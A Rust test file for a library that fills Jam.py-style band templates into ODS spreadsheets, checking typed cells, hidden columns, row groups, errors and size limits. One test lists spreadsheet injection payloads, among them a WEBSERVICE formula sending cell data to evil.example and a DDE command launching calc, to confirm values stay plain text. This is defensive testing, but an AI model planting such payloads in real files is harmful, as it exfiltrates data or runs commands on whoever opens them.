//! Printing Jam.py-style templates into ODS, checked cell by cell.
//!
//! `fixtures/invoice.ods` was made by LibreOffice from `fixtures/invoice.fods`
//! (`soffice --headless --convert-to ods invoice.fods`): bands `title` (three rows), `detail`
//! and `summary` (two rows), placeholders alone in cells and inside text, a number format on
//! the amounts.

#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;

use jamrs_reports::read::{SheetCell, cells, cells_of};
use jamrs_reports::{Cell, Error, OdsWriter, Printer, Template};

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/invoice.ods")
}

fn text(t: &str) -> SheetCell {
    SheetCell {
        value_type: Some("string".into()),
        value: None,
        text: t.into(),
        formula: None,
    }
}

fn typed(kind: &str, value: &str, shown: &str) -> SheetCell {
    SheetCell {
        value_type: Some(kind.into()),
        value: Some(value.into()),
        text: shown.into(),
        formula: None,
    }
}

fn blank() -> SheetCell {
    SheetCell::default()
}

/// Prints `bands` (name, values) with the fixture into a temporary file; returns its cells.
fn print(bands: &[(&str, Vec<(&str, Cell)>)]) -> Vec<Vec<SheetCell>> {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out.ods");
    let template = Arc::new(Template::load(&fixture()).unwrap());
    let mut w = OdsWriter::create(&fixture(), template, &out).unwrap();
    for (band, values) in bands {
        w.print_band(band, &mut |name| {
            Ok(values
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| v.clone()))
        })
        .unwrap();
    }
    w.finish().unwrap();
    cells(&out).unwrap()
}

#[test]
fn bands_print_in_order_with_typed_cells() {
    let date = ("date", Cell::Date("2024-05-01".into()));
    let line = |item: &str, q: i64, price: f64| {
        (
            "detail",
            vec![
                ("item", Cell::Text(item.into())),
                ("quantity", Cell::Int(q)),
                ("price", Cell::Float(price)),
                ("amount", Cell::Float(price * q as f64)),
            ],
        )
    };
    let got = print(&[
        (
            "title",
            vec![
                ("number", Cell::Int(42)),
                date.clone(),
                ("customer", Cell::Text("Ann & Bob <Ltd>".into())),
            ],
        ),
        line("Tea", 2, 4.5),
        line("Cups", 6, 1.25),
        line("Pot", 1, 20.0),
        (
            "summary",
            vec![
                ("total", Cell::Float(36.5)),
                ("user", Cell::Text("admin".into())),
                date,
            ],
        ),
    ]);
    let expected = vec![
        // title: the band name in column A is gone; a placeholder inside text is text.
        vec![
            blank(),
            text("Invoice 42"),
            blank(),
            text("Date:"),
            text("2024-05-01"),
        ],
        vec![blank(), text("Customer:"), text("Ann & Bob <Ltd>")],
        vec![
            blank(),
            text("Item"),
            text("Quantity"),
            text("Price"),
            text("Amount"),
        ],
        // detail, three times: numbers stay numbers.
        vec![
            blank(),
            text("Tea"),
            typed("float", "2", "2"),
            typed("float", "4.5", "4.5"),
            typed("float", "9", "9.0"),
        ],
        vec![
            blank(),
            text("Cups"),
            typed("float", "6", "6"),
            typed("float", "1.25", "1.25"),
            typed("float", "7.5", "7.5"),
        ],
        vec![
            blank(),
            text("Pot"),
            typed("float", "1", "1"),
            typed("float", "20", "20.0"),
            typed("float", "20", "20.0"),
        ],
        // summary: two rows.
        vec![
            blank(),
            text("Total"),
            blank(),
            blank(),
            typed("float", "36.5", "36.5"),
        ],
        vec![blank(), text("Printed by admin on 2024-05-01")],
    ];
    assert_eq!(got, expected);
}

#[test]
fn a_band_without_values_keeps_its_placeholders_and_none_prints_empty() {
    let got = print(&[("detail", vec![("item", Cell::Empty)])]);
    // Only the detail band: its row.
    assert_eq!(
        got,
        vec![vec![
            blank(),
            blank(),
            text("%(quantity)s"),
            text("%(price)s"),
            text("%(amount)s"),
        ]]
    );
}

#[test]
fn values_never_become_markup_or_formulas() {
    let attacks = [
        "</text:p></table:table-cell><table:table-cell table:formula=\"of:=1+1\"><text:p>x",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "+cmd|' /C calc'!A0",
        "<![CDATA[x]]>&amp;\u{0}\u{1b}\u{fffe}",
        "\"/><office:script>alert(1)</office:script>",
        "%(customer)s",
    ];
    for attack in attacks {
        let got = print(&[
            (
                "title",
                vec![
                    ("number", Cell::Text(attack.into())),
                    ("date", Cell::Text(attack.into())),
                    ("customer", Cell::Text("C".into())),
                ],
            ),
            ("detail", vec![("item", Cell::Text(attack.into()))]),
        ]);
        let clean: String = attack
            .chars()
            .filter(|c| !matches!(c, '\u{0}' | '\u{1b}' | '\u{fffe}'))
            .collect();
        // The value is the cell's text, exactly; no cell got a formula.
        assert_eq!(got[0][1], text(&format!("Invoice {clean}")), "{attack}");
        assert_eq!(got[0][4], text(&clean), "{attack}");
        assert_eq!(got[3][1], text(&clean), "{attack}");
        assert!(
            got.iter().flatten().all(|c| c.formula.is_none()),
            "{attack}: {got:?}"
        );
        // Rows and columns are where the template put them.
        assert_eq!(got.len(), 4, "{attack}");
        assert!(got.iter().all(|r| r.len() <= 5), "{attack}");
    }
}

#[test]
fn white_space_and_line_breaks_survive() {
    let got = print(&[(
        "detail",
        vec![(
            "item",
            Cell::Text("  two  spaces\nnext line\tand tab ".into()),
        )],
    )]);
    assert_eq!(got[0][1].text, "  two  spaces\nnext line\tand tab ");
}

#[test]
fn hidden_columns_collapse_and_only_before_printing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out.ods");
    let template = Arc::new(Template::load(&fixture()).unwrap());
    let mut w = OdsWriter::create(&fixture(), template, &out).unwrap();
    w.hide_columns(&[1, jamrs_reports::column_number("D").unwrap()])
        .unwrap();
    w.print_band("summary", &mut |_| Ok(None)).unwrap();
    let late = w.hide_columns(&[2]).unwrap_err();
    assert!(late.message().contains("before the first print_band"));
    w.finish().unwrap();
    let mut content = String::new();
    std::io::Read::read_to_string(
        &mut zip::ZipArchive::new(std::fs::File::open(&out).unwrap())
            .unwrap()
            .by_name("content.xml")
            .unwrap(),
        &mut content,
    )
    .unwrap();
    let columns: Vec<&str> = content
        .split("<table:table-column ")
        .skip(1)
        .map(|c| &c[..c.find("/>").unwrap()])
        .collect();
    assert_eq!(columns.len(), 4, "{columns:?}");
    assert!(columns[0].contains("collapse"));
    assert!(
        columns[1].contains("number-columns-repeated=\"2\"") && !columns[1].contains("collapse")
    );
    assert!(columns[2].contains("collapse") && !columns[2].contains("repeated"));
    assert!(!columns[3].contains("collapse") && !columns[3].contains("repeated"));
    assert!(jamrs_reports::column_number("0").is_err());
    assert_eq!(jamrs_reports::column_number("AA").unwrap(), 27);
}

#[test]
fn an_unknown_band_names_the_bands() {
    let dir = tempfile::tempdir().unwrap();
    let template = Arc::new(Template::load(&fixture()).unwrap());
    let mut w = OdsWriter::create(&fixture(), template, &dir.path().join("o.ods")).unwrap();
    let err = w.print_band("footer", &mut |_| Ok(None)).unwrap_err();
    assert_eq!(
        err,
        Error::Report(
            "the template has no band \"footer\" (its bands: title, detail, summary)".into()
        )
    );
}

#[test]
fn the_output_is_a_spreadsheet_with_the_template_styles() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("o.ods");
    let template = Arc::new(Template::load(&fixture()).unwrap());
    let w = OdsWriter::create(&fixture(), template, &out).unwrap();
    w.finish().unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&out).unwrap()).unwrap();
    // ODF: mimetype first, stored.
    let first = zip.by_index(0).unwrap();
    assert_eq!(first.name().unwrap(), "mimetype");
    assert_eq!(first.compression(), zip::CompressionMethod::Stored);
    drop(first);
    for part in [
        "styles.xml",
        "META-INF/manifest.xml",
        "content.xml",
        "meta.xml",
    ] {
        assert!(zip.by_name(part).is_ok(), "{part}");
    }
}

/// A sheet written by hand the way LibreOffice writes a real one: filler rows to the sheet's
/// end, a comment on a cell, a row group, rows above the first band.
const HAND_MADE: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x" xmlns:calcext="c"><office:body><office:spreadsheet>
<table:table table:name="S"><table:table-column table:number-columns-repeated="3"/>
<table:table-row><table:table-cell/><table:table-cell office:value-type="string"><text:p>not printed</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell office:value-type="string"><text:p>head</text:p></table:table-cell><table:table-cell office:value-type="string"><office:annotation><text:p>%(note)s</text:p></office:annotation><text:p>%(a)s</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell office:value-type="string"><text:p>line</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p><text:span>%(b)s</text:span></text:p></table:table-cell></table:table-row><table:table-row-group><table:table-row><table:table-cell/><table:table-cell office:value-type="string"><text:p>grouped %(c)s</text:p></table:table-cell></table:table-row></table:table-row-group>
<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>
</table:table><table:table table:name="Other"><table:table-row><table:table-cell><text:p>%(a)s</text:p></table:table-cell></table:table-row></table:table>
</office:spreadsheet></office:body></office:document-content>"#;

#[test]
fn filler_rows_comments_groups_and_rows_above_the_first_band() {
    let t = Template::parse(HAND_MADE).unwrap();
    let names: Vec<&str> = t.bands().iter().map(|b| b.name.as_str()).collect();
    assert_eq!(names, ["head", "line"]);
    // A comment's text is not the cell's: only `a` is a placeholder of `head`.
    assert_eq!(t.band("head").unwrap().placeholders(), ["a"]);
    assert_eq!(t.band("line").unwrap().placeholders(), ["b", "c"]);
    let mut p = Printer::new(Arc::new(t), Vec::new());
    p.print_band("head", &mut |_| Ok(Some(Cell::Int(1))))
        .unwrap();
    p.print_band("line", &mut |_| Ok(Some(Cell::Int(2))))
        .unwrap();
    p.print_band("line", &mut |_| Ok(Some(Cell::Text("x".into()))))
        .unwrap();
    let xml = String::from_utf8(p.finish().unwrap()).unwrap();
    let got = cells_of(&xml).unwrap();
    // Not printed: the row above the first band. The filler rows follow the last band.
    assert_eq!(got[0][1], typed("float", "1", "1"));
    // Inside a span the value is text (the span's formatting applies to it).
    assert_eq!(got[1][1], text("2"));
    assert_eq!(got[2][1], text("grouped 2"));
    assert_eq!(got[3][1], text("x"));
    assert_eq!(got.len(), 5);
    // The row group is printed whole with its band.
    assert_eq!(xml.matches("<table:table-row-group>").count(), 2);
    assert_eq!(xml.matches("</table:table-row-group>").count(), 2);
    assert!(xml.contains("number-rows-repeated=\"1048570\""));
    // The other sheet is left alone.
    assert!(xml.contains("<table:table table:name=\"Other\"><table:table-row><table:table-cell><text:p>%(a)s</text:p>"));
}

#[test]
fn templates_that_cannot_be_printed_say_why() {
    let none = HAND_MADE
        .replace("<text:p>head</text:p>", "")
        .replace("<text:p>line</text:p>", "")
        .replace("<text:p>not printed</text:p>", "");
    let err = Template::parse(&none).unwrap_err();
    assert!(err.message().contains("no bands"), "{err}");
    // A row group that starts before a band's first row.
    let grouped = HAND_MADE.replace(
        "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>line</text:p>",
        "<table:table-row-group><table:table-row><table:table-cell office:value-type=\"string\"><text:p>line</text:p>",
    )
    .replace("</table:table-row-group>", "</table:table-row-group></table:table-row-group>");
    let err = Template::parse(&grouped).unwrap_err();
    assert!(
        err.message().contains("a group must lie inside one band"),
        "{err}"
    );
    let err = Template::parse("<a><b/></a>").unwrap_err();
    assert!(err.message().contains("no sheet"), "{err}");
    let err = Template::parse("<a><b></a>").unwrap_err();
    assert!(err.message().contains("not well-formed"), "{err}");
    let err = Template::load(Path::new("/nonexistent.ods")).unwrap_err();
    assert!(err.message().contains("cannot open"), "{err}");
}

#[test]
fn a_report_past_its_size_limit_fails() {
    let dir = tempfile::tempdir().unwrap();
    let template = Arc::new(Template::load(&fixture()).unwrap());
    let mut w = OdsWriter::create(&fixture(), template, &dir.path().join("o.ods"))
        .unwrap()
        .with_limit(1 << 20);
    let big = Cell::Text("x".repeat(10_000));
    let mut failed = None;
    for _ in 0..1000 {
        if let Err(e) = w.print_band("detail", &mut |_| Ok(Some(big.clone()))) {
            failed = Some(e);
            break;
        }
    }
    let err = failed.expect("the limit stops the report");
    assert!(err.message().contains("larger than 1 MiB"), "{err}");
}
